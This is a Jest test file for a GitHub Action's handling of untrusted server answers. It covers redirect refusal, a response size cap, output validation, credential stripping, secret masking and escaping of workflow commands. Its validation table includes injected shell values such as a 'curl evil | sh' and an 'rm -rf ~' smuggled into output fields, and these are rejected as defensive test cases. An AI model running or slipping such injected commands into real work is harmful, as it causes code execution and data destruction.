/**
 * Answers the action does not trust: redirects (never followed, never retried), the 16 MiB
 * size cap (counted as the body streams in), output values built from answers, credentials in
 * URLs, secrets in error details (masked before the reflow and the cut), and the GitHub event
 * payload of a pull request.
 */
import { afterEach, describe, expect, it } from '@jest/globals';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readGithubContext } from '../../../src/inputs/github-event.js';
import { errorFromResponse } from '../../../src/api/answers.js';
import { MAX_ANSWER_BYTES, RefusedAnswerError } from '../../../src/api/http/limits.js';
import { createResilientFetch, request, type HttpContext } from '../../../src/api/http/request.js';
import { outputProblem, withoutCredentials } from '../../../src/lib/outputs.js';
import { escapeMarkdown } from '../../../src/report/markdown.js';
import {
  resetSecretsForTests,
  setSecret,
  captureOutputForTests,
} from '../../../src/lib/untrusted.js';
import { Deadline } from '../../../src/lib/time.js';
import { FakeClock } from '../../helpers/fakes.js';
import { captureLogger } from '../../helpers/http-test-server.js';

afterEach(() => resetSecretsForTests());

function noAnswer(): Error {
  throw new Error('expected the request to fail');
}

function ctxWith(fetchImpl: typeof fetch): HttpContext {
  const clock = new FakeClock();
  return {
    clock,
    deadline: Deadline.fromSeconds(clock, 1800),
    logger: captureLogger(),
    random: () => 0.5,
    fetchImpl,
  };
}

/** A body of `total` bytes produced on demand; `pulled()` tells how much was read. */
function lazyBody(total: number, chunk = 64 * 1024) {
  let produced = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (produced >= total) return controller.close();
      const n = Math.min(chunk, total - produced);
      produced += n;
      controller.enqueue(new Uint8Array(n).fill(32));
    },
  });
  return { stream, pulled: () => produced };
}

describe('redirects', () => {
  it.each([301, 302, 303, 307, 308])(
    'HTTP %i fails at once, names the host, is not retried',
    async (status) => {
      let calls = 0;
      const ctx = ctxWith(async () => {
        calls++;
        return new Response(null, {
          status,
          headers: { location: 'https://user:pw@login.example:8443/sso?next=%2Fok' },
        });
      });
      const error = await request(ctx, {
        method: 'GET',
        url: 'https://agent.example/ok',
        retry: 'idempotent',
        describe: 'GET https://agent.example/ok',
      }).then(noAnswer, (e: unknown) => e as Error);
      expect(error).toBeInstanceOf(RefusedAnswerError);
      expect(error.message).toMatch(/redirect/);
      expect(error.message).toContain('login.example:8443');
      expect(error.message).not.toContain('pw');
      expect(error.message).not.toContain('sso');
      expect(calls).toBe(1);
    },
  );

  it('the SDK fetch refuses a redirecting stream too', async () => {
    const f = createResilientFetch(
      ctxWith(async () => new Response(null, { status: 307, headers: { location: '/elsewhere' } })),
    );
    await expect(
      f('https://agent.example/threads/t/runs/stream', { method: 'POST', body: '{}' }),
    ).rejects.toThrow(/redirect \(to agent\.example\)/);
  });
});

describe('the size cap', () => {
  it('stops reading past 16 MiB and says "answer too large"', async () => {
    const body = lazyBody(192 * 1024 * 1024);
    const ctx = ctxWith(async () => new Response(body.stream, { status: 200 }));
    const error = await request(ctx, {
      method: 'GET',
      url: 'https://cp.example/v2/deployments',
      retry: 'idempotent',
      describe: 'GET deployments',
    }).then(noAnswer, (e: unknown) => e as Error);
    expect(error).toBeInstanceOf(RefusedAnswerError);
    expect(error.message).toMatch(/answer too large/);
    // Memory bounded: no more than the cap and a chunk or two was pulled from the stream.
    expect(body.pulled()).toBeLessThanOrEqual(MAX_ANSWER_BYTES + 256 * 1024);
  });

  it('fails before reading when Content-Length is over the cap', async () => {
    const body = lazyBody(MAX_ANSWER_BYTES * 2);
    const ctx = ctxWith(
      async () =>
        new Response(body.stream, {
          status: 200,
          headers: { 'content-length': String(MAX_ANSWER_BYTES * 2) },
        }),
    );
    await expect(
      request(ctx, {
        method: 'GET',
        url: 'https://cp.example/x',
        retry: 'idempotent',
        describe: 'GET x',
      }),
    ).rejects.toThrow(/answer too large/);
    expect(body.pulled()).toBeLessThanOrEqual(256 * 1024);
  });

  it('reads an answer just under the cap', async () => {
    const body = lazyBody(MAX_ANSWER_BYTES);
    const ctx = ctxWith(async () => new Response(body.stream, { status: 200 }));
    const res = await request(ctx, {
      method: 'GET',
      url: 'https://cp.example/x',
      retry: 'idempotent',
      describe: 'GET x',
    });
    expect(res.text.length).toBe(MAX_ANSWER_BYTES);
  });

  it('caps a streamed run too', async () => {
    const body = lazyBody(64 * 1024 * 1024);
    const f = createResilientFetch(ctxWith(async () => new Response(body.stream, { status: 200 })));
    const res = await f('https://agent.example/threads/t/runs/stream', {
      method: 'POST',
      body: '{}',
    });
    await expect(res.text()).rejects.toThrow(/answer too large/);
    expect(body.pulled()).toBeLessThanOrEqual(MAX_ANSWER_BYTES + 256 * 1024);
  });
});

describe('outputs built from answers', () => {
  it.each([
    ['commit-sha', '0123456789abcdef0123456789abcdef01234567', true],
    ['commit-sha', 'abc"; curl evil | sh; "', false],
    ['commit-sha', 'main', false],
    ['name', 'my-agent-pr-12', true],
    ['name', 'My Agent', false],
    ['name', 'x\n::error::y', false],
    ['deployment-id', '9b48d351-6b05-468c-a1f2-9ec689fcc846', true],
    ['deployment-id', 'a b', false],
    ['revision-id', 'r\t1', false],
    ['status', 'DEPLOYED', true],
    ['status', 'QUEUED\r::warning::x', false],
    ['url', 'https://agent.example/path', true],
    ['url', 'http://127.0.0.1:8123', true],
    ['url', 'https://user:pw@agent.example', false],
    ['url', 'https://agent.example/"; rm -rf ~; "', false],
    ['url', 'https://agent.example/a b', false],
    ['url', 'javascript:alert(1)', false],
    ['url', 'ftp://agent.example', false],
    ['ui-url', 'https://smith.langchain.com/o/t/host/deployments/d', true],
    ['created', 'true', true],
    ['created', 'yes', false],
  ])('%s = %j: valid %s', (name, value, valid) => {
    expect(outputProblem(name, value) === undefined).toBe(valid);
  });

  it('drops credentials from a URL and returns every form to mask', () => {
    expect(withoutCredentials('https://agent:p%40ss@host.example/x/')).toEqual({
      url: 'https://host.example/x/',
      credentials: ['p%40ss', 'p@ss', 'agent:p%40ss', 'agent:p@ss'],
    });
    expect(withoutCredentials('https://tok3n@host.example/x')).toEqual({
      url: 'https://host.example/x',
      credentials: ['tok3n'],
    });
    expect(withoutCredentials('https://host.example')).toEqual({
      url: 'https://host.example',
      credentials: [],
    });
  });
});

describe('secrets in error details', () => {
  const answer = (detail: string) => ({ status: 400, text: JSON.stringify({ detail }) });
  const ctx = { method: 'POST', path: '/v2/deployments', describe: 'POST deployment' };

  it('a secret with a tab or double spaces is masked although the detail is reflowed', () => {
    const secret = 'tab\tand  two  spaces-42';
    const out = captureOutputForTests(() => undefined);
    setSecret(secret);
    out();
    const message = errorFromResponse(answer(`bad value ${secret} here`), ctx).message;
    expect(message).toContain('***');
    expect(message).not.toContain('spaces-42');
  });

  it('a secret the 600-character cut would halve is masked first', () => {
    const secret = 'S3CRET-'.repeat(10);
    const out = captureOutputForTests(() => undefined);
    setSecret(secret);
    out();
    const detail = `${'x'.repeat(570)} ${secret}`;
    const message = errorFromResponse(answer(detail), ctx).message;
    expect(message).not.toContain('S3CRET');
  });

  it('a detail cannot forge a workflow command', () => {
    const message = errorFromResponse(
      answer('x\n::error::PWNED ##[set-output name=u;]y'),
      ctx,
    ).message;
    expect(message).not.toMatch(/\n|::|##\[/);
  });
});

describe('@-mentions from untrusted text', () => {
  it('escapeMarkdown notifies nobody', () => {
    const out = escapeMarkdown('cc @acme/platform-team and @octocat, mail a@b.example');
    expect(out).not.toMatch(/@[A-Za-z0-9]/);
    expect(out).toContain('@\u200bacme');
  });
});

describe('pull-request payload', () => {
  const dir = mkdtempSync(join(tmpdir(), 'payload-'));
  const file = (name: string, text: string) => {
    const path = join(dir, name);
    writeFileSync(path, text);
    return path;
  };
  const env = (path: string | undefined): NodeJS.ProcessEnv => ({
    GITHUB_EVENT_NAME: 'pull_request',
    ...(path !== undefined ? { GITHUB_EVENT_PATH: path } : {}),
  });

  it.each([
    ['not set', undefined, /GITHUB_EVENT_PATH is not set/],
    ['missing', join(dir, 'missing.json'), /cannot be read \(ENOENT\)/],
    ['empty', 'empty', /is empty/],
    ['not JSON', 'bad', /is not JSON/],
    ['without a PR', 'nopr', /names no pull request/],
  ])('%s: a warning naming GITHUB_EVENT_PATH', (_what, which, why) => {
    const path =
      which === 'empty'
        ? file('empty.json', '')
        : which === 'bad'
          ? file('bad.json', '{"pull_request":')
          : which === 'nopr'
            ? file('nopr.json', '{"action":"opened"}')
            : which;
    const problem = readGithubContext(env(path)).payloadProblem;
    expect(problem).toMatch(why);
    expect(problem).toContain('GITHUB_EVENT_PATH');
  });

  it('no warning for a good payload, or for another event', () => {
    const good = file(
      'good.json',
      JSON.stringify({ pull_request: { number: 3, head: {}, base: {} } }),
    );
    expect(readGithubContext(env(good)).payloadProblem).toBeUndefined();
    expect(readGithubContext({ GITHUB_EVENT_NAME: 'push' }).payloadProblem).toBeUndefined();
  });
});
